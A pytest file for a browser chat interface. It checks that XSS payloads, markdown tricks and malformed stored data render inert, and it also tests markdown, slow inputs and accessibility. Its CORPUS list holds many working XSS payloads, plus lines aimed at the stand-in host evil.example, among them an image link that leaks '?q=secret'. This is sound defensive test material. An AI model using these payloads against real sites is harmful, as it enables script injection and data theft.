"""The web chat in real Chromium: whatever a model, a user or a file says stays text, and everybody can read it."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from chromium import Chat, asked, conversation, said, started
from live_server import TOKENIZER, Live, live_server, tiny_engine, turn

pytestmark = pytest.mark.slow
ROOT = Path(__file__).resolve().parent.parent.parent
CONTEXT = 8192
BOOM = "window.boom=(window.boom||0)+1"
# What has run scripts in pages that show text, in the forms in which it was written down over the years.
CORPUS = [
    f"<script>{BOOM}</script>",
    f"<scr<script>ipt>{BOOM}</scr</script>ipt>",
    f"<img src=x onerror={BOOM}>",
    f'<img src="x" onerror="{BOOM}" alt="a">',
    f"<svg onload={BOOM}><animate onbegin={BOOM} attributeName=x></svg>",
    f"<svg><script>{BOOM}</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={BOOM}>",
    f"<iframe srcdoc='<script>parent.{BOOM}</script>'></iframe>",
    f"<iframe src=javascript:{BOOM}></iframe>",
    f"<body onload={BOOM}><input autofocus onfocus={BOOM}>",
    f"<details open ontoggle={BOOM}>x</details><video><source onerror={BOOM}></video>",
    f"<object data=javascript:{BOOM}></object><embed src=javascript:{BOOM}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x';body{display:none}</style>",
    "<form action=https://evil.example/><button autofocus>go</button></form>",
    f"</textarea><script>{BOOM}</script>",
    f"--></style></title><script>{BOOM}</script><!--",
    f"&lt;script&gt;{BOOM}&lt;/script&gt; &#60;img src=x onerror={BOOM}&#62;",
    f"[click](javascript:{BOOM})",
    f"[click](JaVaScRiPt:{BOOM})",
    f"[click](java\tscript:{BOOM}) [click](\x01javascript:{BOOM})",
    f"[click](javascript&colon;{BOOM}) [a](data:text/html,<script>{BOOM}</script>)",
    "[click](vbscript:x) [file](file:///etc/passwd) [blob](blob:https://x/y) [rel](/v1/models) [rel](//evil.example)",
    f'[a](https://evil.example/"onmouseover="{BOOM}) [b](https://evil.example/ "title" onclick={BOOM})',
    f"[a](https://evil.example/x'onclick='{BOOM}) <https://evil.example/?q=\"onclick={BOOM}>",
    f'<javascript:{BOOM}> <data:text/html,x> https://evil.example/"onclick="{BOOM}',
    "![picture](https://evil.example/leak.png?q=secret) ![x](//evil.example/a.png) ![y](data:text/html,x)",
    f'![x](x" onerror="{BOOM}) !["onerror="{BOOM}](https://evil.example/x.png)',
    f"`<img src=x onerror={BOOM}>` **<b onclick={BOOM}>x</b>** *<i>y</i>* ~~<u>z</u>~~",
    f"```html\n<script>{BOOM}</script>\n```",
    f'```"onclick="{BOOM}\n</code></pre><script>{BOOM}</script>\n```',
    f"| <script>{BOOM}</script> | <img src=x onerror={BOOM}> |\n|---|---|\n"
    f"| <svg onload={BOOM}> | [x](javascript:{BOOM}) |",
    f"# <script>{BOOM}</script>\n\n> <img src=x onerror={BOOM}>\n\n- <svg onload={BOOM}>\n  1. <script>{BOOM}</script>",
    "{{constructor.constructor('boom=1')()}} ${boom=1} <%= boom %> {{7*7}}",
    f"\u2028<script>{BOOM}</script>\u2029\ufeff<scr\u0000ipt>{BOOM}</script>\u202e<tpircs>",
    "__proto__ constructor [[Prototype]] [x](__proto__) javascript:alert(1)",
]
ALLOWED = [
    "a", "article", "b", "blockquote", "br", "button", "circle", "code", "del", "details",
    "div", "em", "h3", "h4", "h5", "h6", "hr", "i", "img", "label",
    "li", "ol", "p", "path", "pre", "rect", "section", "span", "strong", "summary",
    "svg", "table", "tbody", "td", "textarea", "th", "thead", "tr", "ul",
]  # fmt: skip
INERT = """(allowed) => { const bad = [], dead = ['style', 'srcdoc', 'action', 'formaction'];
    for (const node of document.querySelectorAll('#messages *, #conversations *')) {
    const name = node.localName;
    if (!allowed.includes(name)) bad.push(name);
    for (const { name: attribute, value } of node.attributes) {
        if (attribute.startsWith('on') || dead.includes(attribute)) bad.push(attribute);
        if (attribute === 'src' && !value.startsWith('data:image/')) bad.push(value);
        if (attribute === 'href' && !/^https?:[/][/]/.test(value)) bad.push(value); }
    const isSafe = () => node.rel.includes('noopener') && node.target === '_blank' && node.title === node.href;
    if (name === 'a' && !isSafe()) bad.push('rel');
    if (name === 'img' && !node.closest('.pictures')) bad.push('img'); }
    return bad; }"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """One for this file."""
    with started() as browser:
        yield browser


@pytest.fixture(scope="module")
def server() -> Iterator[Live]:
    """With room for long answers."""
    with live_server(engine=partial(tiny_engine, context=CONTEXT), context=CONTEXT) as live:
        yield live


@pytest.fixture
def chat(server: Live, browser: Any) -> Iterator[Chat]:
    """The page, opened; afterwards it has asked no other server, has not complained, and the engine is idle."""
    chat = Chat(server, browser).open()
    yield chat
    chat.close()
    server.says.clear()
    server.wait_until_idle(30)


def harmless(chat: Chat) -> None:
    """Nothing ran, and what is shown consists of what the page makes."""
    assert chat.page.evaluate(INERT, ALLOWED) == []
    assert chat.page.evaluate("window.boom") is None
    assert chat.page.url == f"{chat.live.url}/"


def test_what_a_model_writes_is_inert(chat: Chat) -> None:
    """The corpus as content, as thoughts, as names and arguments of calls, as results; each as a reload shows it."""
    for n, text in enumerate(CORPUS):
        calls = [{"id": text, "name": text, "arguments": json.dumps({text: text}), "draft": text}]
        answered = conversation(
            asked("q"),
            said(text, text, calls=calls, finish=text, error=text, model=text),
            {"role": "tool", "call": text, "content": text},
            said(text, calls=calls),
            name="x",
            title=text,
        )
        chat.seed(answered)
        harmless(chat)
        assert chat.page.locator(".thoughts").first.text_content() == text, n
        assert chat.page.locator(".call .name").first.text_content() == text
        assert chat.page.locator(".fault span").first.text_content() == text
        assert chat.page.locator("#title").text_content() == text
        for link in chat.page.locator(".answer a").all():
            link.hover()
        for node in chat.page.locator(".answer :is(code, li, td, p)").all():
            node.dispatch_event("click")
            node.dispatch_event("mouseover")
    harmless(chat)


def test_code_is_shown_to_the_letter(chat: Chat) -> None:
    """In a fence, every text of the corpus is exactly itself."""
    for text in CORPUS:
        if "```" in text:
            continue
        chat.seed(conversation(asked("q"), said(f"````\n{text}\n````")))
        assert chat.page.locator(".answer pre").text_content() == text.replace("\r", "")


def test_a_stream_of_attacks_is_inert(chat: Chat) -> None:
    """As the model writes them, piece by piece: half a tag is no tag either."""
    text = "\n\n".join(CORPUS[:6] + CORPUS[26:33])
    chat.live.say("attack", turn(text, CORPUS[2], [(CORPUS[0], [("a", "string", CORPUS[3])])]))
    chat.send("attack")
    while chat.page.get_attribute("#messages", "aria-busy") == "true":
        chat.page.evaluate("() => new Promise((resolve) => requestAnimationFrame(resolve))")
        harmless(chat)
    chat.ended()
    harmless(chat)
    assert chat.page.locator(".thoughts").text_content() == CORPUS[2]
    assert chat.page.locator(".call .name").text_content() == CORPUS[0]
    assert json.loads(chat.kept()[0]["messages"][1]["calls"][0]["arguments"]) == {"a": CORPUS[3]}
    shown = chat.page.inner_html(".answer")
    chat.open()
    assert chat.page.inner_html(".answer") == shown


def test_what_a_user_types_is_inert(chat: Chat) -> None:
    """Sent, listed, edited, kept, sent again."""
    chat.live.say("q", turn("No."))
    for text in (CORPUS[0], CORPUS[2], CORPUS[15], CORPUS[18]):
        chat.page.keyboard.press("Control+k")
        chat.ask(f"q {text}")
        assert chat.page.locator(".bubble").text_content() == f"q {text}"
        chat.page.click("[aria-label='Edit the message']")
        assert chat.page.locator(".edit textarea").input_value() == f"q {text}"
        chat.page.press(".edit textarea", "Escape")
        harmless(chat)
    chat.open()
    harmless(chat)


def test_what_is_kept_may_be_anything(chat: Chat) -> None:
    """Wrong kinds, broken JSON, prototypes: what cannot be read is left alone, and the page works."""
    wrong = [
        '{"id": "a", "messages": [1, null, "x", {"role": "evil"}, {"role": "user", "text": 5, "pictures": {"a": 9}}]}',
        '{"id": "b", "title": {"x": 1}, "messages": [{"role": "assistant", "content": [1], "calls": "no", "usage": 7'
        "}]}",
        '{"id": "c", "settings": {"effort": "<img>", "tools": 3}, "messages": {"__proto__": {"role": "user"}}}',
        '{"__proto__": {"id": "d"}, "messages": []}',
        "{",
        "null",
        '"x"',
        '{"id": "e", "messages": [{"role": "user", "pictures": [{"id": "../x", "name": "<img src=x onerror=b()>"}]}]}',
    ]
    code = "(all) => all.forEach((text, n) => { localStorage['openk3.chat.' + 'abcdfghe'[n]] = text; })"
    chat.page.evaluate(code, wrong)
    chat.page.evaluate("localStorage['openk3.settings'] = '[1'; localStorage['openk3.scheme'] = '<x>'")
    chat.open()
    assert chat.page.locator("#conversations li").count() == 4
    for open_ in chat.page.locator("#conversations .open").all():
        open_.click()
        if chat.page.locator(".pictures").count():
            chat.page.wait_for_selector(".gone")
        harmless(chat)
    chat.live.say("hi", turn("Hello."))
    chat.page.keyboard.press("Control+k")
    assert chat.ask("hi").locator(".answer").inner_text() == "Hello."


def test_the_browser_itself_refuses_html_and_strangers(chat: Chat) -> None:
    """The policy holds: no HTML of text, no script of text, no request to another server."""
    chat.may_complain = ("Security Policy", "This document requires", "evil.example")
    for code in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.write('x')",
        "new DOMParser().parseFromString('', 'text/html')",
    ):
        assert "This document requires" in chat.page.evaluate(
            f"() => {{ try {{ {code}; return ''; }} catch (e) {{ return e.message; }} }}"
        )
    asks = "() => fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
    assert chat.page.evaluate(asks) == "refused"
    chat.requests = [one for one in chat.requests if "evil.example" not in one.url]  # asked for by this test
    framed = chat.context.new_page()
    framed.set_content(f"<iframe src='{chat.live.url}'></iframe>")
    framed.wait_for_function("() => document.querySelector('iframe')")
    assert all("What shall we" not in frame.content() for frame in framed.frames)


MARKDOWN = {
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "# A\n### B ###\n#no": "<h3>A</h3><h5>B</h5><p>#no</p>",
    "**b** *i* ***both*** __b__ _i_ ~~d~~": "<p><strong>b</strong> <em>i</em> <em><strong>both</strong></em>"
    " <strong>b</strong> <em>i</em> <del>d</del></p>",
    "snake_case_name 2 * 3 * 4 **open *x": "<p>snake_case_name 2 * 3 * 4 **open *x</p>",
    "**a *b* c** *a **b** c*": "<p><strong>a <em>b</em> c</strong> <em>a <strong>b</strong> c</em></p>",
    "`a*b*` ``x`y`` `open": "<p><code>a*b*</code> <code>x`y</code> `open</p>",
    "\\*no\\* \\(x\\) a\\b": "<p>*no* \\(x\\) a\\b</p>",
    "- a\n- b\n  - c\n\n    more\n- d": "<ul><li>a</li><li>b<ul><li>c<p>more</p></li></ul></li><li>d</li></ul>",
    "3. x\n4. y": '<ol start="3"><li>x</li><li>y</li></ol>',
    "1. a\n   - b\n2. c\n\ntext": "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol><p>text</p>",
    "a\n- b": "<p>a</p><ul><li>b</li></ul>",
    "> q\n> r\n\n---": "<blockquote><p>q<br>r</p></blockquote><hr>",
    '[t](https://a.example/(x)?y=1 "T") <https://b.example/>': '<p><a href="https://a.example/(x)?y=1">t</a>'
    ' <a href="https://b.example/">https://b.example/</a></p>',
    "see https://a.example/x_y_z. (https://b.example)": '<p>see <a href="https://a.example/x_y_z">https://a.example/x_y_z</a>.'
    ' (<a href="https://b.example/">https://b.example</a>)</p>',
    "[a [b](https://c.example) d](https://e.example)": '<p>[a <a href="https://c.example/">b</a> d]('
    '<a href="https://e.example/">https://e.example</a>)</p>',
    "[x][1] [**y**] [ftp](ftp://a)": "<p>[x][1] [<strong>y</strong>] [ftp](ftp://a)</p>",
    "| a | b \\| c |\n|:-:|--:|\n| `x` | **y** |\n| only |": '<table><thead><tr><th data-align="center">a</th>'
    '<th data-align="right">b | c</th></tr></thead><tbody><tr><td data-align="center"><code>x</code></td>'
    '<td data-align="right"><strong>y</strong></td></tr><tr><td data-align="center">only</td>'
    '<td data-align="right"></td></tr></tbody></table>',
    "```py\na = 1\n\n```\nend": "<pre>py: a = 1\n</pre><p>end</p>",
    "~~~\n```\n~~~~": "<pre>: ```</pre>",
    "- x\n  ```\n  y\n  ```": "<ul><li>x<pre>: y</pre></li></ul>",
    "```\nnever closed": "<pre>: never closed</pre>",
}


def simple(html: str) -> str:
    """Without what every link, table and block of code has around it."""
    html = re.sub(
        r'<div class="code-block"><div class="bar"><span>(.*?)</span>.*?</div><pre[^>]*><code>(.*?)</code></pre></div>',
        lambda found: f"<pre>{found[1].replace('code', '')}: {found[2]}</pre>",
        html,
        flags=re.DOTALL,
    )
    html = re.sub(r'<div class="table"[^>]*>(.*?)</div>', r"\1", html, flags=re.DOTALL)
    return re.sub(r' title="[^"]*" target="_blank" rel="noopener noreferrer nofollow"', "", html)


def test_markdown(chat: Chat) -> None:
    """Each part of the subset, nested and broken; and a reload shows what the stream has shown."""
    for text, expected in MARKDOWN.items():
        chat.seed(conversation(asked("q"), said(text)))
        assert simple(chat.page.inner_html(".answer")) == expected, text
    whole = "\n\n".join(MARKDOWN)
    chat.live.say("parts", turn(whole))
    chat.page.keyboard.press("Control+k")
    chat.ask("parts")
    shown = chat.page.inner_html(".answer")
    chat.open()
    assert chat.page.inner_html(".answer") == shown


def test_hard_texts_are_read_in_linear_work(chat: Chat) -> None:
    """Texts made to make a reader slow: each is shown whole, all of them within one wait."""
    n = 20_000
    hard = ["[" * n, "*a " * n, "**a" * n, "`" * n, "` `` ``` " * (n // 9), "> " * n, "- " * n, "![" * n, "[a](" * n]
    hard += [
        "<https://" * n,
        "_" * n,
        "~~a" * n,
        "# " + " #" * n,
        "-" * n + "x",
        " " * n + "|",
        "|" * n + "\n" + "|-" * n,
    ]
    hard += ["https://a.example/" + ")" * n, "\\" * n, "\n".join(" " * (k % 40) + "- x" for k in range(2000))]
    chat.seed(conversation(asked("q"), *(said(text) for text in hard)))
    assert chat.page.locator(".answer").count() == len(hard)
    harmless(chat)


LABELS = """() => [...document.querySelectorAll(
    'button, input, textarea, select, a, summary, [role=img], [tabindex="0"], img')]
    .filter((node) => node.checkVisibility() || node.type === 'radio')
    .filter((node) => !(node.getAttribute('aria-label') || node.labels?.length || node.innerText?.trim() || node.alt))
    .map((node) => node.outerHTML.slice(0, 120))"""
# Of each text in sight against what lies behind it, as WCAG 2 reckons; translucent grounds are laid over each other.
CONTRAST = """() => {
    const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
    const rgba = (color) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = color; canvas.fillRect(0, 0, 1, 1);
        const [r, g, b, a] = canvas.getImageData(0, 0, 1, 1).data; return [r, g, b, a / 255]; };
    const over = ([r, g, b, a], under) => [r, g, b].map((c, n) => c * a + under[n] * (1 - a));
    const light = (c) => c.map((v) => v / 255).map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
        .reduce((sum, v, n) => sum + v * [0.2126, 0.7152, 0.0722][n], 0);
    const ground = (node) => { const above = []; for (let one = node; one; one = one.parentElement) {
            above.push(rgba(getComputedStyle(one).backgroundColor)); if (one.localName === 'dialog') break; }
        return above.reverse().reduce((under, color) => over(color, under), [255, 255, 255]); };
    const poor = [];
    for (const node of document.querySelectorAll('body *')) {
        const isSeen = node.checkVisibility({ opacityProperty: true, visibilityProperty: true });
        if (!isSeen || node.closest('.unseen, .skip, .logo')) continue;
        const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
        if (!own && !(node.placeholder && !node.value)) continue;
        if (node.closest(':disabled')) continue;
        const style = getComputedStyle(node, own ? null : '::placeholder'), behind = ground(node);
        const [x, y] = [light(over(rgba(style.color), behind)), light(behind)].sort((a, b) => b - a);
        const ratio = (x + 0.05) / (y + 0.05), size = parseFloat(style.fontSize);
        const isLarge = size >= 24 || (size >= 18.5 && style.fontWeight >= 700);
        if (ratio < (isLarge ? 3 : 4.5)) poor.push([node.outerHTML.slice(0, 80), ratio]);
    }
    return poor; }"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_everybody_can_read_it(server: Live, browser: Any, scheme: str) -> None:
    """Names for every control, contrast of every text, in both schemes and all states; landmarks and headings."""
    chat = Chat(server, browser, color_scheme=scheme).open()
    chat.page.fill("#input", "")

    def check(state: str) -> None:
        chat.shot(f"{scheme}-{state}")
        assert chat.page.evaluate(LABELS) == [], state
        assert chat.page.evaluate(CONTRAST) == [], state

    check("empty")
    sample = (
        "## Head\n\nText with `code`, [a link](https://a.example) and **bold**.\n\n> quote\n\n```py\nx = 1\n```\n\n"
    )
    calls = [{"id": "c", "name": "get", "arguments": '{"city": "Zürich"}', "draft": ""}]
    usage = {"prompt": 812, "cached": 640, "answer": 120, "reasoning": 60}
    timed = {"usage": usage, "times": {"thinking": 3.2, "first": 0.4, "rate": 41.25}}
    chat.seed(
        conversation(
            asked("How?"),
            said(sample + "| a | b |\n|---|---|\n| 1 | 2 |", "I think.", **timed),
            asked("And?"),
            said("", "", finish="error", error="the server is full; try again"),
            asked("Then?"),
            said("Let me look.", "Hm.", calls=calls, finish="tool_calls", **timed),
        )
    )
    check("conversation")
    for summary in chat.page.locator("summary:visible").all():
        summary.click()
    check("thoughts")
    chat.page.locator("[aria-label='Edit the message']").first.click()
    check("edit")
    chat.page.keyboard.press("Escape")
    chat.page.click("[aria-label='Delete kept']")
    check("notice")
    chat.page.click("#open-settings")
    chat.page.fill("#tools", "{")
    chat.page.fill("#seed", "0.5")
    check("settings")
    roles = chat.page.evaluate(
        "['main', 'header', 'nav', 'aside', 'h1'].map((tag) => document.querySelectorAll(tag).length)"
    )
    assert roles == [1] * 5 and chat.page.get_attribute("html", "lang") == "en"
    chat.close()


def test_screen_readers_hear_the_answer(chat: Chat) -> None:
    """A polite region is told each paragraph once, and the end; the conversation itself is no live region."""
    text = "First part.\n\nSecond part.\n\nThird part."
    chat.live.say("tell", turn(text, "hm"))
    chat.ask("tell")
    heard = chat.page.locator("#status p").all_inner_texts()
    assert chat.page.get_attribute("#status", "role") == "log"
    assert [part for part in heard if "part" in part] == text.split("\n\n")
    assert heard[-1] == "The answer has ended."
    assert chat.page.get_attribute("#messages", "aria-live") is None


def test_a_real_model_through_the_command_line(tiny_run: Path, browser: Any) -> None:
    """`openk3 serve` on a trained run: it greets with the page's address, and the page shows what the model writes."""
    command = [sys.executable, "-m", "openk3", "serve", str(tiny_run), "--port", "0", "--cache-gib", "0.05"]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    environment.pop("OPENK3_API_KEYS", None)
    process = subprocess.Popen(command, env=environment, stderr=subprocess.PIPE, text=True)
    try:
        assert process.stderr is not None
        first, second = process.stderr.readline(), process.stderr.readline()
        found = re.search(r"chat at (http://127\.0\.0\.1:\d+)/;", second)
        assert found, first + second
        server = type("Address", (), {"url": found[1]})()
        chat = Chat(server, browser).open()  # pyrefly: ignore
        assert chat.page.inner_text("#model") == tiny_run.name
        chat.page.click("#open-settings")
        for name, value in {"max-tokens": "24", "seed": "5"}.items():
            chat.page.fill(f"#{name}", value)
        chat.page.keyboard.press("Escape")
        stats = chat.ask("Say something.").locator(".stats").inner_text()
        assert stats.startswith("24 tokens · ") or chat.kept()[0]["messages"][1]["finish"] == "stop"
        written = chat.kept()[0]["messages"][1]
        assert written["reasoning"] or written["content"]
        chat.page.click("[aria-label='Answer again']")
        chat.page.wait_for_function("(n) => document.querySelectorAll('.assistant').length === 1", arg=1)
        chat.ended()
        again = chat.kept()[0]["messages"][1]
        assert (again["reasoning"], again["content"]) == (written["reasoning"], written["content"])  # by its seed
        chat.close()
    finally:
        process.terminate()
        assert process.wait(30) == 0


def test_every_token_of_text_survives(chat: Chat) -> None:
    """Scripts, emoji, combining and right-to-left characters arrive as the model's bytes say, cut anywhere."""
    text = "Ünï 漢字かな 한글 עברית العربية 👩‍👩‍👧‍👦 🇨🇭 é à\u0301 𝒳 \u200b|"
    answer = TOKENIZER.encode_control(turn(text, text))
    chat.live.say("all", answer)
    chat.ask("all")
    assert chat.page.locator(".answer").text_content() == text == chat.page.locator(".thoughts").text_content()
